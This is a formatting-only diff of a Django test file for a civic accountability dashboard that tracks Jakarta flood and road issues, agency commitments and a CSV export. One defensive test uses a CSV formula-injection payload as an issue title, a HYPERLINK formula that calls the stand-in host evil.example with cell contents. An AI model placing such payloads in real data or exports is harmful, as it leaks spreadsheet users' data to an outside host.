@@ -31,13 +31,20 @@ def clocked(issue, days=0):
 def judge(response, yes, no, people):
     for person in people[:yes]:
         actions.give_verdict(actor=person, response=response, answers=True)
-    for person in people[yes:yes + no]:
+    for person in people[yes : yes + no]:
         actions.give_verdict(actor=person, response=response, answers=False)
 
 
 @pytest.fixture
-def city(issue_factory, resident_of_manggarai, resident_of_bukit_duri, areas, official_of_water_agency,
-         official_of_roads_agency, verified_residents):
+def city(
+    issue_factory,
+    resident_of_manggarai,
+    resident_of_bukit_duri,
+    areas,
+    official_of_water_agency,
+    official_of_roads_agency,
+    verified_residents,
+):
     water, roads = official_of_water_agency, official_of_roads_agency
     manggarai, bukit_duri = areas["manggarai"], areas["bukit-duri"]
 
@@ -47,8 +54,13 @@ def city(issue_factory, resident_of_manggarai, resident_of_bukit_duri, areas, of
 
     a = clocked(open_(resident_of_manggarai, manggarai, "flooding", "A"))
     with at(2):
-        answer_a = respond(water, a, status="resolved", body="Cleared.",
-                           commitment=CommitmentDraft(what="Clear", due_date=(T0 + dt.timedelta(days=10)).date()))
+        answer_a = respond(
+            water,
+            a,
+            status="resolved",
+            body="Cleared.",
+            commitment=CommitmentDraft(what="Clear", due_date=(T0 + dt.timedelta(days=10)).date()),
+        )
     with at(5):
         actions.add_progress(actor=water, commitment=answer_a.commitment, note="Done.", done=True)
     judge(answer_a, 3, 1, verified_residents(4))
@@ -63,12 +75,22 @@ def city(issue_factory, resident_of_manggarai, resident_of_bukit_duri, areas, of
 
     e = clocked(open_(resident_of_manggarai, manggarai, "roads", "E"))
     with at(1):
-        respond(roads, e, status="in_progress", body="Patching.",
-                commitment=CommitmentDraft(what="Patch", due_date=(T0 + dt.timedelta(days=12)).date()))
+        respond(
+            roads,
+            e,
+            status="in_progress",
+            body="Patching.",
+            commitment=CommitmentDraft(what="Patch", due_date=(T0 + dt.timedelta(days=12)).date()),
+        )
     g = open_(resident_of_manggarai, manggarai, "roads", "G")
     with at(3):
-        respond(roads, g, status="in_progress", body="Resurfacing.",
-                commitment=CommitmentDraft(what="Resurface", due_date=(T0 + dt.timedelta(days=30)).date()))
+        respond(
+            roads,
+            g,
+            status="in_progress",
+            body="Resurfacing.",
+            commitment=CommitmentDraft(what="Resurface", due_date=(T0 + dt.timedelta(days=30)).date()),
+        )
     return {"a": a, "b": b}
 
 
@@ -93,8 +115,9 @@ def test_figures_per_area_roll_up_to_the_areas_above(city):
         report = accountability.report()
     names = [r.name for r in report.areas]
     assert names == ["Kota Jakarta Selatan", "Kecamatan Tebet", "Kelurahan Bukit Duri", "Kelurahan Manggarai"]
-    manggarai, bukit_duri, tebet = (row(report.areas, n) for n in
-                                    ("Kelurahan Manggarai", "Kelurahan Bukit Duri", "Kecamatan Tebet"))
+    manggarai, bukit_duri, tebet = (
+        row(report.areas, n) for n in ("Kelurahan Manggarai", "Kelurahan Bukit Duri", "Kecamatan Tebet")
+    )
     assert (manggarai.awaiting, manggarai.overdue, manggarai.median_days) == (1, 1, 1.5)  # delays 2 and 1 days
     assert (bukit_duri.awaiting, bukit_duri.overdue, bukit_duri.median_days) == (1, 0, 6.0)
     assert (tebet.awaiting, tebet.overdue, tebet.median_days, tebet.judged, tebet.answering) == (2, 1, 2.0, 2, 1)
@@ -111,12 +134,13 @@ def test_the_overdue_list_and_the_csv_say_the_same(city, client):
     assert rows[0] == accountability.SUMMARY_HEADER
     assert ["agency", "Dinas Sumber Daya Air", "1", "1", "4.0", "2", "0.50", "1", "0", "0"] in rows
     assert ["area", "Kecamatan Tebet", "2", "1", "2.0", "2", "0.50", "1", "1", "1"] in rows
-    overdue = rows[rows.index(["overdue_issue", "title", "area", "agency", "due_date", "days_overdue"]) + 1:]
+    overdue = rows[rows.index(["overdue_issue", "title", "area", "agency", "due_date", "days_overdue"]) + 1 :]
     assert [(r[1], r[3], r[4], r[5]) for r in overdue] == [("C", "Dinas SDA", "2026-03-16", "6")]
 
 
-def test_the_dashboard_needs_the_same_queries_whatever_the_data_size(city, client, issue_factory, areas,
-                                                                    resident_of_manggarai, official_of_water_agency):
+def test_the_dashboard_needs_the_same_queries_whatever_the_data_size(
+    city, client, issue_factory, areas, resident_of_manggarai, official_of_water_agency
+):
     def count():
         with time_machine.travel(NOW, tick=False), CaptureQueriesContext(connection) as queries:
             assert client.get("/accountability/").status_code == 200
@@ -128,17 +152,29 @@ def test_the_dashboard_needs_the_same_queries_whatever_the_data_size(city, clien
         issue = clocked(issue_factory(resident_of_manggarai, area=areas["manggarai-rw-04"], title=f"More {i}"))
         if i % 2:
             with at(3):
-                respond(official_of_water_agency, issue, status="in_progress", body="On it.",
-                        commitment=CommitmentDraft(what="Fix", due_date=(T0 + dt.timedelta(days=9)).date()))
+                respond(
+                    official_of_water_agency,
+                    issue,
+                    status="in_progress",
+                    body="On it.",
+                    commitment=CommitmentDraft(what="Fix", due_date=(T0 + dt.timedelta(days=9)).date()),
+                )
     assert count() == few
 
 
-def test_the_csv_does_not_carry_formulas_from_titles_or_names(issue_factory, resident_of_manggarai, areas, client,
-                                                              water_agency, official_of_water_agency):
+def test_the_csv_does_not_carry_formulas_from_titles_or_names(
+    issue_factory, resident_of_manggarai, areas, client, water_agency, official_of_water_agency
+):
     water_agency.name = "@Dinas SDA"
     water_agency.save(update_fields=["name"])
-    issue = clocked(issue_factory(resident_of_manggarai, area=areas["manggarai"], category="flooding",
-                                  title='=HYPERLINK("http://evil.example/?"&A1, "Banjir")'))
+    issue = clocked(
+        issue_factory(
+            resident_of_manggarai,
+            area=areas["manggarai"],
+            category="flooding",
+            title='=HYPERLINK("http://evil.example/?"&A1, "Banjir")',
+        )
+    )
     with time_machine.travel(NOW, tick=False):
         download = client.get("/accountability/accountability.csv")
     rows = list(csv.reader(io.StringIO(download.content.decode())))
